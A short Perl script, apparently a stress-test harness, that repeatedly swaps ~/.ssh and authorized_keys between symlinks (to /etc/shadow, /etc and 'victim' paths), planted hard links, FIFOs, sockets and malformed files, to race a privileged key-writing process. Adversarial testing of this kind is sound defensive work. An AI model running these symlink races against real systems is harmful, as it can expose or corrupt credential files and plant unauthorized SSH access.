# Swaps what stands at ~/.ssh and ~/.ssh/authorized_keys between everything a user can make, for SECONDS, as fast as it
# can: swap.pl SECONDS KEYFILE. Prints how many times it did.
use strict;
use warnings;
use Fcntl;
use POSIX ();
use Socket;

my ($seconds, $keyfile) = @ARGV;
my $ssh  = "$ENV{HOME}/.ssh";
my $keys = "$ssh/authorized_keys";
open(my $in, '<', $keyfile) or die "$keyfile: $!";
my $line = do { local $/; <$in> };

# Other people's files that root has linked into this home, as a kernel without protected_hardlinks would let anybody.
my @links = glob("$ENV{HOME}/links/*");

# Never waits, should a FIFO stand there.
sub put {
    my ($path, $bytes, $length) = @_;
    sysopen(my $out, $path, O_WRONLY | O_CREAT | O_TRUNC | O_NONBLOCK, 0600) or return;
    syswrite $out, $bytes;
    truncate($out, $length) if $length;
    close $out;
}

sub place_link { rename(pop @links, $_[0]) if @links }

my @file_acts = (
    sub { put($keys, $line) },
    sub { put("$ssh/new.$$", $line); rename("$ssh/new.$$", $keys) },
    sub { symlink('/srv/victim/keys', $keys) },
    sub { symlink('/srv/victim',      $keys) },
    sub { symlink('/etc/shadow',      $keys) },
    sub { symlink('authorized_keys',  $keys) },
    sub { place_link($keys) },
    sub { POSIX::mkfifo($keys, 0600) },
    sub { mkdir $keys },
    sub { put("$keys/inside", $line) },
    sub { socket(my $s, PF_UNIX, SOCK_STREAM, 0); bind($s, pack_sockaddr_un($keys)) },
    sub { put($keys, $line, 1 << 30) },
    sub { put($keys, "\xff\xfe\0\n\r" . $line x 200) },
    sub { chmod 0000, $keys },
    sub { unlink $keys, "$keys/inside"; rmdir $keys },
    sub { place_link("$ssh/authorized_keys2") },
);
my @directory_acts = (
    sub { unlink glob("$ssh/* $ssh/*/*"); rmdir for glob("$ssh/*"); rmdir $ssh; unlink $ssh },
    sub { rename($ssh, "$ENV{HOME}/aside.$$"); symlink('/srv/victim', $ssh) },
    sub { symlink('/etc', $ssh) },
    sub { symlink('.ssh', $ssh) },
    sub { put($ssh, $line) },
    sub { unlink $ssh; rename("$ENV{HOME}/aside.$$", $ssh) },
    sub { unlink $ssh; mkdir $ssh },
    sub { chmod 0000, $ssh; chmod 0700, $ssh },
);

my ($done, $end) = (0, time + $seconds);
while (time < $end) {
    $file_acts[rand @file_acts]->() for 1 .. 8;
    $directory_acts[rand @directory_acts]->();
    $done += 9;
}
print "$done\n";
